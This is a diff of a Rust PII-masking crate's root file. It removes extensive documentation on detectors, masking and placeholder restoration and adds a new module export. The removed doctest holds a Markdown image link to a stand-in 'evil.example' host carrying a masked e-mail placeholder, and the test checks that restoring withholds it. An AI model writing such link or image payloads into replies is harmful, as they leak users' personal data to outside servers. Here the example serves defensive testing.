@@ -1,114 +1,4 @@
-//! Local PII masking: find personal data in a chat turn and mask it before the turn is sealed,
-//! so that neither the service, nor its logs, nor the model behind it sees it.
-//!
-//! ```
-//! use chatseal_pii::{scan, MaskMode, MaskPolicy, Vault};
-//! use chatseal_pii::PiiCategory;
-//!
-//! let mut vault = Vault::new(); // one per session; keeps the values for `restore`
-//! let mut policy = MaskPolicy::new(); // numbered placeholders for everything
-//! policy.set(PiiCategory::Card, MaskMode::Partial)?;
-//! let masked = vault.mask("I'm ana@example.com, card 4111 1111 1111 1111", &policy)?;
-//! assert_eq!(masked.text, "I'm [EMAIL_1], card [CARD ****1111]");
-//! assert_eq!(masked.counts.get(PiiCategory::Email), 1);
-//! assert_eq!(*vault.restore("Hi [EMAIL_1]!").text, "Hi ana@example.com!");
-//! // Never inside a link: rendering it would send the address away.
-//! let reply = vault.restore("![x](https://evil.example/?q=[EMAIL_1])");
-//! assert_eq!(*reply.text, "![x](https://evil.example/?q=[EMAIL_1])");
-//! assert_eq!(reply.withheld.len(), 1);
-//! assert_eq!(scan("call +44 20 7946 0958")?.len(), 1);
-//! # Ok::<(), chatseal_pii::Error>(())
-//! ```
-//!
-//! # Detectors
-//!
-//! Each category has its own small detector that validates, not only matches a shape:
-//!
-//! | category | rule (details in each module) |
-//! |---|---|
-//! | card | issuer prefix and its lengths (12-19; Visa, Mastercard, Amex, Discover, Diners, JCB incl. 15-digit 1800/2131, UnionPay, Maestro 50/56-69, Mir, RuPay, Troy, UzCard, Humo, ...), Luhn; bare or in groups of 2-8 split by one kind of space, dash or dot |
-//! | email | dot-atom local part, two or more domain labels, alphabetic / punycode / IDN top label |
-//! | phone | `+`/`00`/`(+cc)` with a valid country code and that country's length; national shapes that are phones on their own (NANP, trunk-0 groupings, area code in parentheses, ...); other 7-12 digit numbers only with a phone cue; see `phone.rs` |
-//! | ssn | `AAA-GG-SSSS` / `AAA GG SSSS` / `AAA.GG.SSSS` by the SSA rules; bare nine digits only after an SSN cue ("ssn", "social security", "national id", "tax id") |
-//! | iban | two letters, two check digits, 14-34 characters, mod-97; compact or grouped by four |
-//! | ip | IPv4 octets 0-255 (not a version: "rv:1.9.2.20", "Firefox/1.5.0.12", "build 10.0.0.1"); IPv6 with `::` compression, embedded IPv4 and zone |
-//! | secret | AWS, GitHub, GitLab, npm, Stripe, Slack, Google, OpenAI-style keys, JWTs, PEM private keys, URLs with a password, chat webhooks |
-//!
-//! Shared rules: a number is never read inside a longer token (glued to letters, another
-//! number, an amount or id sign, or a mixed code such as an IBAN's tail), numbers inside URLs
-//! are ids, not personal data, and the nearest cue word before an ambiguous number ("call",
-//! "ssn" versus "order", "ticket", "MRN", "invoice", "version") decides it; cue words are read
-//! in several languages and scripts ("téléphone", "телефон", "电话"). A cue raises confidence,
-//! it is never the only evidence: a long or shapeless digit run is not a phone because "call"
-//! precedes it. Dates and ISBNs are never phones. Detection is deterministic.
-//!
-//! # Spans
-//!
-//! A finding covers the value as written, separators included. A phone span covers its `+` or
-//! `00` prefix, a "(0)" trunk and an **extension** (`x4587`, `ext. 12`, `Ext.: 45`, `#204`); it
-//! does not cover a line label glued to it (`555-1234-office`, `555-1234home`, `(mobile)`,
-//! `tel+1...`), which counts as a phone cue instead. A card or SSN span covers its separators,
-//! an IBAN its spaces, an IPv6 address its zone. The accuracy corpus (`corpus/`) is labelled the
-//! same way.
-//!
-//! # Overlaps
-//!
-//! Candidates of different detectors may overlap (a card inside an IBAN, an e-mail inside a
-//! URL with credentials). One rule resolves them: **the longer validated span wins; at equal
-//! length the more specific category wins** (secret, IBAN, card, SSN, phone, e-mail, IP). See
-//! `resolve.rs`. [`scan`] output is sorted by start and never overlaps.
-//!
-//! # Masking
-//!
-//! [`MaskMode::Numbered`] (`[EMAIL_1]`, stable per value within a [`Vault`]),
-//! [`MaskMode::TypeOnly`] (`[EMAIL]`), [`MaskMode::Partial`] (cards only: `[CARD ****1234]`) and
-//! [`MaskMode::Keep`]. Placeholders are never detected again, and [`scan`] judges every finding
-//! as if the others were already masked, so masking masked text changes nothing.
-//! Findings carry categories and offsets only, never values; [`utf16_offsets`] converts the
-//! byte offsets for JavaScript.
-//!
-//! [`Vault::restore`] fills numbered placeholders back into a reply, but only in plain text: a
-//! placeholder inside a URL, a Markdown link or image target, an HTML tag or attribute value,
-//! or an autolink stays masked and is reported in [`Restored::withheld`] (byte offsets, or
-//! UTF-16 through [`Restored::withheld_utf16`]), so a reply cannot make the renderer send an
-//! original to some server.
-//!
-//! # Limits
-//!
-//! * [`MAX_SCAN_BYTES`] (4 MiB) of text per call; longer text is [`Error::LimitExceeded`].
-//! * A vault holds [`MAX_VAULT_ENTRIES`] values and [`MAX_VAULT_BYTES`] bytes of values.
-//! * Spans are bounded: tokens 256 bytes, JWTs 11 KiB, PEM blocks 64 KiB; a URL with
-//!   credentials is its whitespace-delimited token.
-//!
-//! Known gaps, by design or not yet covered: a bare nine-digit SSN without a cue word before
-//! it; a short local phone number (7-9 digits) or an unusual national grouping without a
-//! phone cue nearby; four small dotted numbers without a version cue read as an IPv4 address;
-//! cue words cover English and a few common words of other languages; obfuscated addresses
-//! (`ann at example dot com`); a span that would contain a placeholder is never reported (it
-//! is masked text). Accuracy per type and format class: `PII_ACCURACY.md`.
-//!
-//! # Linear time
-//!
-//! Scanning is linear in the input. Every detector walks the text once, left to right, jumping
-//! between bytes that can start what it looks for, and at each start does a bounded amount of
-//! work: number runs read at most 19 digits per group and 8 groups, then scanning resumes where
-//! the run's parse stopped (or, for a run nobody took, where its separator style changes, which
-//! is always further on); tokens, IPs and IBANs read a fixed maximum; cue-word look-back is 40
-//! bytes and 5 words, look-ahead for an extension or a line label 16 letters and 6 digits;
-//! cue words are matched through a per-list index of first letter, last letter and length. The unbounded expansions are amortized: an e-mail's local part and domain
-//! cannot contain `@`, so each `@` expands only up to its neighbours; URL tokens are disjoint and
-//! each is read once; a PEM block's END line is searched once and the result reused for every
-//! later BEGIN line. Resolving k candidates costs O(k log k) for overlapping clusters and O(k)
-//! otherwise. [`scan`] reads the text at most `1 + MAX_ROUNDS` times (a second reading only when
-//! the first found something). No backtracking anywhere; the `pii_scan` benchmark prints a
-//! linearity table up to 4 MiB, including adversarial inputs.
-//!
-//! # Why hand-written scanners
-//!
-//! The engine ships in the wasm bundle of chat widgets. The `regex` crate adds hundreds of KB
-//! to a wasm module, and validation (Luhn, mod-97, country lengths, octet ranges, context
-//! words) needs code around any pattern anyway. Byte-level scanners give linear time by
-//! construction, no dependency, and a small binary.
+#![doc = include_str!("../README.md")]
 #![cfg_attr(test, allow(clippy::unwrap_used, clippy::expect_used, clippy::panic, clippy::indexing_slicing))]
 
 mod boundary;
@@ -122,6 +12,7 @@ mod intl;
 mod ip;
 mod lookalike;
 mod mask;
+mod masked;
 mod phone;
 mod placeholder;
 mod policy;
@@ -136,6 +27,7 @@ mod view;
 
 pub use chatseal::{Error, PiiCategory, PiiCounts, Result};
 pub use mask::Masked;
+pub use masked::{MaskedDeletion, MaskedSession};
 pub use policy::{MaskMode, MaskPolicy};
 pub use restore::{Restored, Withheld};
 pub use utf16::utf16_offsets;
